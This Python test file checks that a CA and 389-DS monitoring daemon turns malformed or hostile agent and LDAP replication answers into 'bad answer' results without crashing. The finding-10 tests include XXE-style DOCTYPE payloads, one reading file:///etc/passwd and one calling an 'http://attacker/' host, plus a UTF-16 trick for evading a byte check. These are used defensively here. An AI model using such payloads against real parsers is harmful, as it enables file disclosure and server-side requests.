"""Issue 10, findings 7 and 10: one bad answer from a CA or a 389-DS never stops the daemon.

Every parser maps a malformed answer to "bad answer: ..." (a down status, an AgentInfo with
ok=False, a value left out and reported in the LDAP observation's problems), never to an exception
other than its own BadAnswer.
"""

from __future__ import annotations

import json

import pytest

from ca_watchdog.probes import agent, directory
from ca_watchdog.probes.agent import parse_info_body, parse_status_body, safe_xml, status_from_answer
from ca_watchdog.probes.directory import (
    CSN,
    BadAnswer,
    parse_agreement,
    parse_generalized_time,
    parse_ruv,
    parse_ruv_element,
    parse_status_json,
    parse_update_status,
)


def info_xml(**header: str) -> bytes:
    fields = "".join(f"<{k}>{v}</{k}>" for k, v in header.items())
    return f'<?xml version="1.0" encoding="UTF-8"?><xml><header>{fields}</header></xml>'.encode()


DEEP = [
    b'{"Response": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    b'{"Response": {"Status": "running", "State": ' + b"[" * 900 + b"]" * 900 + b"}}",
    b'{"Response": {"Status": "running", "State": ' + b'{"a":' * 900 + b"1" + b"}" * 900 + b"}}",
    b"<XMLResponse>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</XMLResponse>",
]


# ---- finding 7: getStatus ---------------------------------------------------------------------------


@pytest.mark.parametrize("body", DEEP, ids=["deep-list", "deep-state-list", "deep-state-dict", "deep-xml"])
def test_finding7_deep_json_or_xml_in_getstatus_is_a_bad_answer(body: bytes) -> None:
    st = status_from_answer(200, body, 0.0)
    assert st.status == "down" and st.reason is not None and st.reason.startswith("bad answer: ")


@pytest.mark.parametrize(
    "response",
    [
        {"Status": "running", "State": 1.5e308},
        {"Status": "running", "State": True},
        {"Status": "running", "State": {"x": 1}},
        {"Status": "running", "Version": ["11"]},
        {"Status": "running", "State": "1", "Type": "x" * 10_000},
    ],
)
def test_finding7_odd_types_in_getstatus_are_a_bad_answer(response: dict[str, object]) -> None:
    body = json.dumps({"Response": response}).encode()
    with pytest.raises(agent.BadAnswer):
        parse_status_body(body)
    st = status_from_answer(200, body, 0.0)
    assert st.status == "down" and st.reason is not None and st.reason.startswith("bad answer: ")


# ---- finding 7: getInfo -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "word"),
    [
        ({"master_host": "h", "master_port": "²", "crlIssuingPoints": "MasterCRL"}, "master_port"),
        ({"master_host": "h", "master_port": "٨٤٤٣", "crlIssuingPoints": "MasterCRL"}, "master_port"),
        ({"master_host": "h", "master_port": "9" * 5000, "crlIssuingPoints": "MasterCRL"}, "master_port"),
        ({"master_host": "", "crlIssuingPoints": "MasterCRL", "crlNumbers": "²"}, "crlNumbers"),
        ({"master_host": "", "crlIssuingPoints": "MasterCRL", "crlNumbers": "9" * 5000}, "crlNumbers"),
        ({"master_host": "", "crlIssuingPoints": "A+B", "crlNumbers": "1+٣"}, "crlNumbers"),
    ],
)
def test_finding7_non_ascii_digits_in_getinfo_are_a_bad_answer(header: dict[str, str], word: str) -> None:
    info = parse_info_body(info_xml(**header))
    assert not info.ok and info.error is not None
    assert info.error.startswith("bad answer: ") and word in info.error


def test_finding7_deep_xml_in_getinfo_is_a_bad_answer_or_an_answer_never_an_exception() -> None:
    body = b"<xml><header><master_host/><crlIssuingPoints/>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</header></xml>"
    info = parse_info_body(body)
    assert info.ok or (info.error or "").startswith("bad answer: ")
    assert not parse_info_body(b"\xff\xfe<\x00").ok


# ---- finding 10: XML ----------------------------------------------------------------------------------

ENTITY_RUNNING = (
    '<?xml version="1.0" encoding="UTF-16"?>\n'
    '<!DOCTYPE XMLResponse [<!ENTITY r "running">]>\n'
    "<XMLResponse><Status>&r;</Status><State>1</State></XMLResponse>"
)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_finding10_a_utf16_doctype_defining_an_entity_is_refused(encoding: str) -> None:
    body = ENTITY_RUNNING.encode(encoding)
    assert b"<!doctype" not in body.lower()  # the old byte check saw nothing
    with pytest.raises(agent.BadAnswer, match="DTD"):
        safe_xml(body)
    st = status_from_answer(200, body, 0.0)
    assert st.status == "down" and st.reason is not None and "DTD" in st.reason


@pytest.mark.parametrize(
    "decl",
    [
        '<!DOCTYPE xml SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker/">%p;]>',
        "<!DOCTYPE xml>",
    ],
)
def test_finding10_any_doctype_in_utf16_getinfo_is_refused(decl: str) -> None:
    body = f'<?xml version="1.0" encoding="UTF-16"?>{decl}<xml><header><master_host/><crlIssuingPoints/></header></xml>'
    info = parse_info_body(body.encode("utf-16"))
    assert not info.ok and info.error is not None and "DTD" in info.error


def test_finding10_utf16_without_a_dtd_is_still_read() -> None:
    body = '<?xml version="1.0" encoding="UTF-16"?><XMLResponse><Status>running</Status><State>1</State></XMLResponse>'
    assert status_from_answer(200, body.encode("utf-16"), 0.0).status == "running"


# ---- finding 7: LDAP attributes ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '{"state": "red", "ldap_rc": Infinity, "message": "x"}',
        '{"state": "red", "ldap_rc": "²", "message": "x"}',
        '{"state": "red", "ldap_rc": 1e400, "message": "x"}',
        '{"state": ' + "[" * 900 + "]" * 900 + "}",
        '{"state": "red", "message": ' + "[" * 900 + "]" * 900 + "}",
        '{"state": "green", "date": ' + "{" * 100 + "}" * 100 + "}",
        "[" * 100_000,
        "NaN",
    ],
)
def test_finding7_hostile_replication_status_json_never_raises(text: str) -> None:
    status = parse_status_json(text)
    assert status is None or status.state in ("green", "amber", "red")
    assert parse_update_status(text, "Error (0) Replica acquired successfully").state in ("green", "red", "amber")


@pytest.mark.parametrize(
    "attrs",
    [
        {"cn": ["a"], "nsds5replicaPort": ["²"]},
        {"cn": ["a"], "nsds5replicaPort": ["Infinity"]},
        {"cn": ["a"], "nsds5replicaPort": ["9" * 5000]},
        {"cn": ["a"], "nsds5replicaLastUpdateStatus": ["Error (²) x"]},
        {"cn": ["a"], "nsds5replicaLastUpdateStatus": ["Error (" + "9" * 5000 + ") x"]},
        {"cn": ["a"], "nsds5replicaLastUpdateStart": ["²0251231235959Z"]},
        {"cn": ["a"], "nsds5replicaLastUpdateEnd": ["20251399000000Z"]},
        {"cn": ["a"], "nsds5replicaLastUpdateStatusJSON": ['{"state": "red", "ldap_rc": Infinity}']},
    ],
)
def test_finding7_an_agreement_with_a_bad_attribute_is_still_an_agreement(attrs: dict[str, list[str]]) -> None:
    agmt = parse_agreement("cn=a,cn=replica", attrs)
    assert agmt.name == "a"
    assert agmt.consumer_port is None or 0 < agmt.consumer_port < 65536


@pytest.mark.parametrize(
    "value",
    ["{replica ² ldap://h:389} 6b0a0381000200010000 6b0a0391000000010000", "{replica 1 ldap://h:389} x y", "{replica"],
)
def test_finding7_a_bad_ruv_element_is_left_out_and_reported(value: str) -> None:
    good = "{replica 2 ldap://h2:389} 6b0a0381000200020000 6b0a0391000000020000"
    with pytest.raises(BadAnswer):
        parse_ruv_element(value)
    problems: list[str] = []
    ruv = parse_ruv(["{replicageneration} 6b0a0381000000010000", value, good], problems)
    assert [e.replica_id for e in ruv.elements] == [2]
    assert len(problems) == 1 and problems[0].startswith("bad answer: nsds50ruv: ")


@pytest.mark.parametrize(
    "text", ["²" * 20, "6b0a0381000200010000\n", "Infinity", "g" * 20, "\uff16b0a0381000200010000"]
)
def test_finding7_csns_and_times_take_ascii_only(text: str) -> None:
    if text.strip() == "6b0a0381000200010000":
        assert str(CSN.parse(text)) == "6b0a0381000200010000"
        return
    with pytest.raises(BadAnswer):
        CSN.parse(text)
    with pytest.raises(BadAnswer):
        parse_generalized_time(text)


def test_finding7_replica_id_and_port_parsers() -> None:
    assert directory.parse_replica_id("7") == 7 and directory.parse_port(" 389 ") == 389
    for bad in ("²", "٣", "0", "70000", "Infinity", "-1"):
        with pytest.raises(BadAnswer):
            directory.parse_port(bad)
    for bad in ("²", "٣", "0", "65536", "NaN"):
        with pytest.raises(BadAnswer):
            directory.parse_replica_id(bad)
